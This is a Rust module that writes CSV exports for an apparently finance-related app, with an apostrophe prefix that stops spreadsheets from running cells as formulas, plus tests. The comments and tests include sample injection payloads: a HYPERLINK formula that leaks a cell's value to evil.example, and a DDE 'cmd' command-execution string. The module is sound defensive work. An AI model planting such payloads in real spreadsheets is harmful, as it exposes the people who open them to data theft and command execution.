//! CSV cells that a spreadsheet reads as text, never as a formula.
//!
//! Excel, LibreOffice and Google Sheets run a cell that begins with `=`,
//! `+`, `-` or `@` as a formula (a tab or carriage return first is stripped,
//! and what follows may begin with one), so a wallet named
//! `=HYPERLINK("http://evil.example/?"&A1,"Click")`, or a payer's name from a
//! deposit, would act when the export is opened. Such a cell is written with
//! a leading apostrophe, the spreadsheets' own mark for "this is text"
//! (OWASP's advice for CSV injection). A cell that is a plain decimal number,
//! as the app writes amounts (`-12.50`), is left as it is: a spreadsheet
//! reads it as a number, and a number cannot act.

use std::borrow::Cow;
use std::io::Write;

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a spreadsheet will read it as text: with a leading `'` when it
/// would otherwise start a formula, unchanged when it is a plain number.
pub fn guarded(cell: &str) -> Cow<'_, str> {
    let starts_formula = cell.starts_with(FORMULA_STARTS);
    if !starts_formula || is_plain_number(cell) {
        return Cow::Borrowed(cell);
    }
    Cow::Owned(format!("'{cell}"))
}

/// `-12.50`, `0`, `3.000000000000000001`: an optional minus, digits, and at
/// most one decimal point between digits. Nothing else (no exponent, no sign
/// `+`, no spaces), so nothing a formula could hide in.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let all_digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && parts.next().is_none_or(all_digits)
}

/// A CSV writer whose every cell goes through [`guarded`]: the one way
/// every CSV export (the lists, the extrato, the tax year's files) writes.
#[derive(Debug)]
pub struct Writer<W: Write>(csv::Writer<W>);

impl<W: Write> Writer<W> {
    /// A writer with the `csv` crate's defaults (commas, quotes where needed).
    pub fn from_writer(out: W) -> Writer<W> {
        Writer(csv::Writer::from_writer(out))
    }

    /// Writes one record, each cell [`guarded`].
    pub fn write_record<I, T>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.0.write_record(
            cells
                .into_iter()
                .map(|cell| guarded(cell.as_ref()).into_owned()),
        )
    }

    /// Writes out what is buffered.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.0.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_would_start_a_formula_is_marked_as_text() {
        for cell in [
            r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#,
            "+1+1",
            "-1+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "-",
            "-12.50e3",
            "--1",
            "-.5",
        ] {
            assert_eq!(guarded(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn the_writer_guards_every_cell_and_quotes_as_csv_does() {
        let mut bytes = Vec::new();
        let mut writer = Writer::from_writer(&mut bytes);
        writer.write_record(["name", "amount"]).unwrap();
        writer
            .write_record([r#"=HYPERLINK("http://evil.example/")"#, "-12.50"])
            .unwrap();
        writer.flush().unwrap();
        drop(writer);
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "name,amount\n\"'=HYPERLINK(\"\"http://evil.example/\"\")\",-12.50\n"
        );
    }

    #[test]
    fn numbers_and_ordinary_text_are_kept() {
        for cell in [
            "-12.50",
            "12.50",
            "-0.000000000000000001",
            "0",
            "Conta corrente",
            "fiat/brl",
            "2025-03-01T12:00:00-03:00",
            "",
            "a=b",
        ] {
            assert_eq!(guarded(cell), cell, "{cell:?}");
        }
    }
}
